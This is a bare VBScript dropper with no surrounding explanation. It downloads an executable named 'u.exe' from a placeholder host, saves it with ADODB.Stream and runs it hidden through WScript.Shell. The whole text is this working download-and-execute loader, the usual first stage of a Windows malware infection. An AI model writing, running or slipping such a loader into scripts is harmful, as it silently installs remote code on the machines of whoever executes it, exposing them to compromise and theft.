Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "https://c.tides.invalid/u.exe", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Open
s.Write h.ResponseBody
s.SaveToFile "u.exe", 2
CreateObject("WScript.Shell").Run "u.exe", 0
